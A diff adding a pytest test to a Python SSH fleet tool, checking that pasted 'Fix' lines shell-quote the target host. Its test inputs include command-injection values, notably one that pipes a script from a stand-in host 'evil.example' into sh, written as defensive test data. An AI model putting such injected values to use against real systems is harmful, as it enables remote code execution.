@@ -302,6 +302,22 @@ def test_ssh_failures_are_named_with_their_fix() -> None:
     assert "is up" in remote.ssh_problem(h, "ssh: connect to host 10.0.0.5 port 2222: No route to host").fix
 
 
+@pytest.mark.parametrize("user", ["$(curl${IFS}-s${IFS}evil.example|sh)", "a;b", "`id`", "x'y"])
+def test_every_fix_line_quotes_the_host_it_tells_the_user_to_paste(user: str) -> None:
+    """Review 2026-12 N15, in depth: parse_host refuses such a user name, but a Fix line is pasted into a shell, so
+    the target in it is shell-quoted whatever reaches it (a FleetHost made by hand here)."""
+    import shlex
+
+    from nodekit.backends.fleet.hosts import FleetHost
+    from nodekit.backends.fleet.manage import _reach
+
+    h = FleetHost(rank=0, url="ssh://x@10.0.0.5", scheme="ssh", hostname="10.0.0.5", user=user)
+    quoted = shlex.quote(f"{user}@10.0.0.5")
+    fixes = [remote.ssh_problem(h, said).fix for said in ("Permission denied", "Host key verification failed", "x")]
+    for fix in [*fixes, _reach(h)]:
+        assert quoted in fix and f"{user}@10.0.0.5" in shlex.split(fix), fix
+
+
 # --- the command line: bad hosts are refused before anything is contacted -------------------------------------------
 
 
